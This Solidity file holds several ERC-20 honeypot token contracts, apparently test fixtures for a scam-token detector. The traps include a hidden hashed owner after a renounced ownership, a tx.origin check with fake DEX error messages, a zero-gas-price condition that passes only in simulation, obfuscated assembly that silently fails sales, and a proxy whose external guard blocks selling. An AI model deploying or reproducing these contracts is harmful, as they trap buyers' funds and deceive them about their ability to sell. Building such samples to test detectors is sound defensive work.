// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
import {Lean, Owned} from "./Lean.sol";

/// Traps that hide where the rule is.

/// Ownership is renounced; one account remains privileged, known by the hash of its address alone.
contract HashedOwnerBuiltTrap is Lean("Renounced", "RNC", 18), Owned {
    bytes32 private immutable _domain;
    address private _v2;

    constructor() {
        _domain = keccak256(abi.encodePacked(msg.sender));
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        _v2 = pair;
        transferOwnership(address(0));
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == _v2 && keccak256(abi.encodePacked(from)) != _domain) amount = amount - amount - 1;
        super._transfer(from, to, amount);
    }
}

/// Only transactions that the deployer starts may move tokens to the market.
contract OriginBuiltTrap is Lean("Safe Origin", "SORG", 18), Owned {
    address private immutable _dev = msg.sender;
    address private market;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        market = pair;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(to != market || tx.origin == _dev, "TransferHelper: TRANSFER_FROM_FAILED");
        return super.transferFrom(from, to, amount);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        require(to != market || tx.origin == _dev, "Pancake: TRANSFER_FAILED");
        return super.transfer(to, amount);
    }
}

/// Sales pass only at a gas price of nothing, as a careless simulation has; on the chain there is none such.
contract FreeGasBuiltTrap is Lean("Gas Saver", "GSAV", 18), Owned {
    address private market;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        market = pair;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == market && from != owner) require(tx.gasprice == 0, "gas price too high");
        super._transfer(from, to, amount);
    }
}

/// Written in assembly, with names that say nothing. A sale moves nothing and answers false.
contract RawFalseBuiltTrap {
    string public name = "OxToken";
    string public symbol = "OXT";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    address private _0x71c;
    address private _0x9e4;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _0x71c = msg.sender;
        uint256 amount = totalSupply;
        assembly {
            mstore(0, caller())
            mstore(32, 0x5a17)
            sstore(keccak256(0, 64), amount)
        }
        emit Transfer(address(0), msg.sender, amount);
    }

    function setUp(address _0x3f) external {
        require(msg.sender == _0x71c);
        _0x9e4 = _0x3f;
    }

    function balanceOf(address who) external view returns (uint256 amount) {
        assembly {
            mstore(0, who)
            mstore(32, 0x5a17)
            amount := sload(keccak256(0, 64))
        }
    }

    function allowance(address from, address spender) public view returns (uint256 amount) {
        assembly {
            mstore(0, from)
            mstore(32, spender)
            amount := sload(keccak256(0, 64))
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        assembly {
            mstore(0, caller())
            mstore(32, spender)
            sstore(keccak256(0, 64), value)
        }
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _0xb2(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance(from, msg.sender);
        require(allowed >= value);
        assembly {
            mstore(0, from)
            mstore(32, caller())
            sstore(keccak256(0, 64), sub(allowed, value))
        }
        return _0xb2(from, to, value);
    }

    function _0xb2(address a, address b, uint256 c) private returns (bool d) {
        assembly {
            d := or(xor(1, iszero(xor(b, sload(_0x9e4.slot)))), eq(a, sload(_0x71c.slot)))
            if d {
                mstore(0, a)
                mstore(32, 0x5a17)
                let from := keccak256(0, 64)
                if gt(c, sload(from)) { revert(0, 0) }
                sstore(from, sub(sload(from), c))
                mstore(0, b)
                let to := keccak256(0, 64)
                sstore(to, add(sload(to), c))
            }
        }
        if (d) emit Transfer(a, b, c);
    }
}

/// A service that others' tokens ask before each transfer, as they are sold to builders against bots.
contract GuardService {
    mapping(address => address) private markets;
    mapping(address => address) private owners;

    function register(address market, address owner) external {
        markets[msg.sender] = market;
        owners[msg.sender] = owner;
    }

    function onPreTransferCheck(address from, address to, uint256) external view {
        if (to == markets[msg.sender] && from != owners[msg.sender]) revert("guard: suspicious activity");
    }
}

contract GuardedToken is Lean {
    address private admin;
    GuardService private guard;
    bool public guardEnabled;

    constructor() Lean("", "", 18) {
        admin = address(1);
    }

    function initialize(address admin_, GuardService guard_) external {
        require(admin == address(0), "initialized");
        admin = admin_;
        guard = guard_;
        name = "Meta Guard";
        symbol = "MGRD";
        _mint(admin_, 1_000_000 ether);
    }

    function setUp(address pair) external {
        require(msg.sender == admin, "admin");
        guard.register(pair, admin);
        guardEnabled = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (guardEnabled) guard.onPreTransferCheck(from, to, amount);
        super._transfer(from, to, amount);
    }
}

/// A proxy to a token that asks a service, and the service refuses whoever sends to the market.
contract GuardedProxyBuiltTrap
    is
    ERC1967Proxy(address(new GuardedToken()), abi.encodeCall(GuardedToken.initialize, (msg.sender, new GuardService())))
{}
